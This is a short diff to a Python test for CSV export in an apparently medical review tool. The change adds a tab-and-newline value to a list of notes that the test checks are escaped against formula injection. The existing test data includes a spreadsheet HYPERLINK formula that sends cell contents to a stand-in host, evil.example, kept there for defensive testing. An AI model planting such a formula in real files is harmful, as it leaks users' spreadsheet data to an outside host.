@@ -153,7 +153,7 @@ def test_csv_export_escapes_formulas_and_import_restores_them(db, studies, tmp_p
 
     from bonescan_core import db as dbm
 
-    notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1", "-2 cm", "'quoted", "plain, text"]
+    notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1", "-2 cm", "'quoted", "plain, text", "\tindented\r\n"]
     for study, note in zip(studies, notes, strict=False):
         rv.add_review(db, reading(study, "=ann" if study == studies[0] else "bob", "metastatic", note=note))
     exported = tmp_path / "reviews.csv"
